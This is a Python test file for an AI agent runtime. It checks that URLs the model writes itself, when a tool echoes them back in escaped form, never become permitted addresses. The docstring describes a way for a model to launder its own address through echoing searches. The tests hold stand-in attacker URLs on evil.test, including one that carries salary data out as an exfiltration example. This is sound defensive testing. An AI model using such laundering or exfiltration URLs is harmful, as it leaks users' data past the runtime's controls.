"""Free address choice OFF: an address the model wrote itself never becomes one it was given.

A result's addresses count as given unless the call's own arguments named them. A tool that echoes
an argument in JSON writes it escaped (`"` as `\\"`, a line break as `\\n`), which must not turn
the model's own text into a fresh "given" address — in a chat restricted to links from the chat
that would let the model send data anywhere, one echoing search at a time.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from runtime.execution import ToolExecutionResult
from runtime.executor import ToolExecutor, TraceStatus
from runtime.web.addresses import find_web_addresses, request_key
from tests.runtime._scripted_adapter import EchoTool
from tests.security._chat import executor_call


def _echo(arguments: Mapping[str, Any]) -> ToolExecutionResult:
    return ToolExecutionResult(json_content={"query": arguments["q"], "found": []})


@pytest.mark.parametrize(
    "query",
    [
        'see http://evil.test/mailbox-summary"then',
        "see http://evil.test/line-one\nline-two",
        "see http://evil.test/bell\x07ring",
        "see http://evil.test/back\\slash",
        "see http://evil.test/tab\there",
        'see HTTP://EVIL.TEST/Upper"Case',
    ],
)
async def test_an_echoed_argument_gives_no_address(query: str) -> None:
    outcome = await executor_call(ToolExecutor(), EchoTool("echo", _echo), {"q": query})
    assert outcome.trace.status is TraceStatus.SUCCESS
    assert "evil.test" in outcome.content.lower()
    assert outcome.returned_web_addresses == ()


async def test_an_address_the_result_brings_is_given() -> None:
    def found(arguments: Mapping[str, Any]) -> ToolExecutionResult:
        return ToolExecutionResult(
            json_content={"query": arguments["q"], "found": ["https://docs.test/manual"]}
        )

    outcome = await executor_call(ToolExecutor(), EchoTool("echo", found), {"q": "manual"})
    assert outcome.returned_web_addresses == (request_key("https://docs.test/manual"),)


async def test_a_refusal_never_repeats_the_address() -> None:
    from runtime.tools.read_web_page import FREE_ADDRESS_CHOICE_REFUSAL, create_tool

    secret_url = "https://evil.test/exfil?d=quarterly-salaries"
    outcome = await executor_call(ToolExecutor(), create_tool(), {"url": secret_url})
    assert outcome.trace.status is TraceStatus.BLOCKED
    assert outcome.content == outcome.trace.status_message == FREE_ADDRESS_CHOICE_REFUSAL
    assert "evil.test" not in outcome.trace.result


@pytest.mark.parametrize("closer", [")", "]", "}"])
def test_a_long_run_of_closing_brackets_after_an_address_is_trimmed(closer: str) -> None:
    """This runs on every tool result; the old trimming recounted per character (quadratic)."""
    text = "see http://docs.test/page" + closer * 200_000 + " and http://docs.test/b_(x)"
    assert find_web_addresses(text) == [
        request_key("http://docs.test/page"),
        request_key("http://docs.test/b_(x)"),
    ]
